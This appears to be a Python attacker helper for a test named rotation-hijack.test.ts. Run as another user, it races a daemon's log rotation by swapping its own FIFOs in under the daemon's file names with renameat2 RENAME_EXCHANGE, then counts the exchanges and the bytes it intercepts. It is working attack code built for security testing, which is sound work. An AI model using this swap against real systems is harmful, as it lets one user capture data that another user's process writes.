# The attacker of rotation-hijack.test.ts, run as another user: lists the mount's directory for the daemon's
# rotation names and exchanges a FIFO of its own in under each (renameat2 RENAME_EXCHANGE), holding every FIFO it
# made open for reading, and counts the bytes any of them receives. Prints "exchanges stolen bytes" when it gets
# SIGTERM: `stolen` counts the exchanges that took out a pipe of someone else (the daemon's), not one of its own.
import ctypes, os, select, signal, sys

directory, prefix = sys.argv[1], sys.argv[2]
libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, RENAME_EXCHANGE = -100, 2
exchanges = stolen = received = made = 0
fds = []
stop = False


def on_term(signum, frame):
    global stop
    stop = True


signal.signal(signal.SIGTERM, on_term)


def fresh_fifo():
    global made
    made += 1
    path = os.path.join(directory, f'.attacker-{os.getpid()}-{made}')
    os.mkfifo(path, 0o666)
    fds.append(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
    return path


def drain():
    global received
    ready, _, _ = select.select(fds, [], [], 0)
    for fd in ready:
        try:
            received += len(os.read(fd, 65536))
        except BlockingIOError:
            pass


mine = fresh_fifo()
print('ready', flush=True)
while not stop:
    for name in os.listdir(directory):
        if not name.startswith(prefix):
            continue
        target = os.path.join(directory, name).encode()
        if libc.renameat2(AT_FDCWD, mine.encode(), AT_FDCWD, target, RENAME_EXCHANGE) == 0:
            exchanges += 1
            try:
                stolen += os.lstat(mine).st_uid != os.geteuid()
            except FileNotFoundError:
                pass
            mine = fresh_fifo()  # ours now sits under the daemon's name
    drain()
    if len(fds) > 200:
        for fd in fds[:-100]:
            os.close(fd)
        del fds[:-100]
drain()
print(exchanges, stolen, received, flush=True)
